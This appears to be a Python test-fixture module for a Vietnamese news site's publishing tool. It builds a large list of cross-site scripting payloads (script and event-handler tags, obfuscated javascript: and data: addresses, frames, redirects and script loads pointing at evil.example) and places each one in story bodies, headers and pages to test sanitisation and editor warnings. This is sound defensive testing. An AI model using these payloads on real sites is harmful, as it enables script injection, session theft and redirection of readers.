"""What an attacker would write into a story, and the small content folder that holds all of it.

A vector is a payload in a place; each place has a file of its own for each payload, so that
nothing that a payload leaves open can hide the next.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

from tests.factories import story_text

ACT = "alert(1)"
HTML = (
    f"<script>{ACT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{ACT}",
    f"<script/x>{ACT}</script >",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script>/*</script><svg onload=*/{ACT}>",
    f"<img src=x onerror={ACT}>",
    f"<img/src='x'/onerror={ACT}//",
    f'<img src="x` `<script>{ACT}</script>"` `>',
    f"<img src=x onerror={ACT}",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text x=20 y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<math href='javascript:{ACT}'>x</math>",
    f"<body onload={ACT}>",
    f"<b onclick={ACT}>x</b>",
    f"<b ONMOUSEOVER='{ACT}'>x</b>",
    f'<p title="a" onfocus="{ACT}" tabindex=1 autofocus>x</p>',
    f"<details open ontoggle={ACT}>x</details>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}><option>x</select>",
    f"<textarea autofocus onfocus={ACT}>x</textarea>",
    f"<marquee onstart={ACT}>x</marquee>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    f"<form><button formaction=javascript:{ACT}>x</button></form>",
    f"<isindex type=image src=1 onerror={ACT}>",
    f"<iframe src=javascript:{ACT}></iframe>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe src='https://www.youtube-nocookie.com.evil.example/embed/x' title=x></iframe>",
    "<iframe src='https://www.youtube-nocookie.com/embed/../redirect?q=//evil.example' title=x></iframe>",
    "<iframe src='https://evil.example@www.youtube-nocookie.com/embed/x' title=x></iframe>",
    f"<iframe src='https://www.youtube-nocookie.com/embed/x' title=x onload={ACT}></iframe>",
    f"<iframe><img src=x onerror={ACT}></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='data:text/html,<script>{ACT}</script>'>",
    f"<applet code=x onload={ACT}></applet>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<div style='background:url(javascript:{ACT})'>x</div>",
    f'<div style="width:expression({ACT})">x</div>',
    f"<a href='javascript:{ACT}'>x</a>",
    f"<a href='jav&#x09;ascript:{ACT}'>x</a>",
    f"<a href='&#106;avascript&colon;{ACT}'>x</a>",
    f"<a href=' &#14; javascript:{ACT}'>x</a>",
    f"<a href='&#26;javascript:{ACT}'>x</a>",
    f"<a href='data:text/html,<script>{ACT}</script>'>x</a>",
    f"<a href='https://x.vn' onclick='{ACT}'>x</a>",
    f"<a href='https://x.vn' target=_blank onmouseover={ACT}>x</a>",
    f"<q cite='javascript:{ACT}'>x</q>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'></noscript>",
    f"<title><a href='</title><img src=x onerror={ACT}>'>",
    f"<template><script>{ACT}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={ACT}>'>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--[if IE]><script>{ACT}</script><![endif]-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<?php echo '<script>{ACT}</script>' ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{ACT}</script>'>]>",
    f'"><script>{ACT}</script>',
    f"'><img src=x onerror={ACT}>",
    f"</title></textarea></style></script><script>{ACT}</script>",
    f"</p></div></article></body><script>{ACT}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ACT}</x:script>",
    f"<a href=javascript:{ACT}>x</a>",
    f"<img srcset='x 1x, javascript:{ACT} 2x' alt=x>",
    f"<table background='javascript:{ACT}'><tr><td>x</td></tr></table>",
)
ADDRESSES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"javascript&#58;{ACT}",
    f"javascript&colon;{ACT}",
    f"jav&#x09;ascript:{ACT}",
    f"jav&NewLine;ascript:{ACT}",
    f"&#x6A;&#97;vascript:{ACT}",
    f" javascript:{ACT}",
    f"&#1;javascript:{ACT}",
    f"&#26;javascript:{ACT}",
    f"&#128;javascript:{ACT}",
    f"java\\script:{ACT}",
    f"javascript://x.vn/%0A{ACT}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={ACT}>",
    "file:///etc/passwd",
    f"feed:javascript:{ACT}",
    f"view-source:javascript:{ACT}",
    "blob:https://evil.example/x",
    f'https://x.vn/"onmouseover="{ACT}',
    f"https://x.vn/'onmouseover='{ACT}",
    f'https://x.vn/"><script>{ACT}</script>',
)
HTML_PLACES: dict[str, str] = {
    "block": "{}",
    "inline": "Sáng 27/5, {} kỳ họp khai mạc.",
    "cell": "| a | b |\n|---|---|\n| {} | x |",
    "list": "- một\n- {}",
    "quote": "> {}",
    "heading": "## Mục {}",
    "emphasis": "**đậm {} đậm**",
    "caption": "![Ảnh](anh/a.jpg)\n*Chú thích {} (Ảnh: {})*",
    "link text": "[chữ {} chữ](https://x.vn)",
}
# Here a payload is no HTML at all but words; it is shown as words, and nothing needs telling.
TEXT_PLACES: dict[str, str] = {
    "alt": "![Ảnh {}](anh/a.jpg)",
    "title": "![Ảnh](anh/a.jpg '{}')",
    "code": "`{}`",
    "indented code": "    {}",
}
ADDRESS_PLACES: dict[str, str] = {
    "link": "[x]({})",
    "link in brackets": "[x](<{}>)",
    "reference": "[x][r]\n\n[r]: {}",
    "reference in brackets": "[x][r]\n\n[r]: <{}>",
    "autolink": "<{}>",
    "linked photo": "[![Ảnh](anh/a.jpg)]({})",
    "photo": "![Ảnh]({})",
    "HTML": '<a href="{}">x</a>',
}
# To Markdown these are words or a comment: they are printed as words, or not at all.
WORDS = (
    f"<img/src='x'/onerror={ACT}//",
    f"<img src=x onerror={ACT}",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--[if IE]><script>{ACT}</script><![endif]-->",
)
# How many places one payload is tried in, of each kind, where the time is short.
EVERY = 4


@dataclass(frozen=True)
class Vector:
    """One payload in one place: the file that holds it, and whether the editor must hear of it."""

    name: str
    source: str
    text: str
    told: bool


def vectors(*, every: int) -> Iterator[Vector]:
    """Every payload in one of ``every`` places of each kind; all pairs where it is 1.

    Over the payloads all places come in turn.
    """
    kinds = ((HTML, HTML_PLACES), (HTML, TEXT_PLACES), (ADDRESSES, ADDRESS_PLACES))
    for payloads, places in kinds:
        for number, payload in enumerate(payloads):
            for turn, place in enumerate(places):
                if (turn + number) % every == 0:
                    frame = places[place].replace("{}", payload)
                    yield _body(
                        place, number, frame, places is HTML_PLACES and payload not in WORDS
                    )
    for number, payload in enumerate(HTML):
        yield from list(_headers(number, payload))[number % every :: every]


def _body(place: str, number: int, body: str, told: bool) -> Vector:
    name = f"{place} {number}"
    text = story_text(body, Title=f"Tin {name}", Authors="Kim Chi")
    return Vector(name, f"tin/{name.replace(' ', '-')}/index.md", text, told)


def _headers(number: int, payload: str) -> Iterator[Vector]:
    """The payload in every value of a story, of a withdrawn story, of a person and of a page."""
    item = payload.replace(";", "").replace(",", "")
    values = {
        "Title": f"Tin mục {number} {payload}",
        "Summary": payload,
        "Tags": f"kỳ họp; {item}",
        "Authors": f"Kim Chi; {item}",
        "Photographers": item,
        "Source": item,
        "Source_url": f"https://x.vn/{item}",
        "Correction": f"28/5/2021 — {payload}",
        "Reason": payload,
        "Image": payload,
    }
    yield Vector(f"header {number}", f"tin/muc-{number}/index.md", story_text(**values), True)
    withdrawn = {"Title": f"Tin rút {number}", "Status": "withdrawn", "Reason": payload}
    yield Vector(f"reason {number}", f"tin/rut-{number}/index.md", story_text(**withdrawn), True)
    keys = ("Name", "Role", "Unit", "Aliases", "Portrait")
    person = "\n".join(f"{key}: {key} {number} {payload}" for key in keys)
    yield Vector(f"person {number}", f"tac-gia/nguoi-{number}.md", f"{person}\n\n{payload}\n", True)
    page = f"Title: Trang {number} {payload}\nSummary: {payload}\n\n{payload}\n"
    yield Vector(f"page {number}", f"trang/trang-{number}.md", page, True)


def photo() -> bytes:
    """A small photo."""
    data = BytesIO()
    Image.new("RGB", (900, 600), "#8c1c1f").save(data, "JPEG")
    return data.getvalue()
